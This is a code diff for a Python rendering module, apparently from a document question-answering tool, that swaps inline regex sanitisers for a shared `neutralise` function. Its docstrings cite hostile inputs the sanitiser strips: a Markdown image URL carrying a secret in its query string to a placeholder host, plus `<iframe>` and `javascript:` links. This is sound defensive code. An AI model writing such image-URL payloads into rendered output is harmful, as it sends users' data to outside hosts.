@@ -17,35 +17,17 @@ MARKER = re.compile(r"\[(\d{1,3})\]")
 NOT_FOUND = "Not in the documents"
 WEAK_EVIDENCE = "The documents only touch on this: read the sources"
 
-_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])")
-_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\s*\(([^)]*)\)")
-_REF_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.M)
-_COMMENT = re.compile(r"<!--.*?(-->|$)", re.S)
-_TAG = re.compile(r"</?[A-Za-z][^<>]*>?")
-_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
-
-
-# ---------------------------------------------------------------------------------------------- text hygiene
 def clean_markdown(text: str | None) -> str:
-    """Markdown safe to render: no images, no links (their text stays), no HTML tags, no control characters.
-
-    A document or a model can write `![](http://host/?q=secret)`; rendered, that fetches the URL. It can also write
-    `<img>`, `<iframe>` or `<a href=javascript:...>`. None of that survives here. `[n]` markers are kept.
-    """
-    if not text:
-        return ""
-    text = _CONTROL.sub("", text)
-    text = _COMMENT.sub("", text)
-    text = _IMAGE.sub(lambda m: m.group(1), text)
-    text = _LINK.sub(lambda m: m.group(1), text)
-    text = _REF_DEF.sub("", text)
-    text = _TAG.sub("", text)
-    return text.replace("<", "&lt;")
+    """Markdown safe to render: the one sanitiser (rag/nlp/text.py `neutralise`: no images, no links (their text
+    stays), no HTML, no control characters), then every "<" left escaped. A document or a model can write
+    `![](http://host/?q=secret)`; rendered, that fetches the URL; or `<img>`, `<iframe>`, `<a href=javascript:...>`.
+    None of that survives here. `[n]` markers are kept."""
+    return neutralise(text).replace("<", "&lt;")
 
 
 def plain(text: str | None) -> str:
-    """Text for places that render no Markdown at all (HTML panels): tags and image syntax removed, then escaped."""
-    return html.escape(_TAG.sub("", _IMAGE.sub(lambda m: m.group(1), _CONTROL.sub("", text or ""))))
+    """Text for places that render no Markdown at all (HTML panels): sanitised, then escaped."""
+    return html.escape(neutralise(text))
 
 
 def cite_link(turn: int, n: int) -> str:
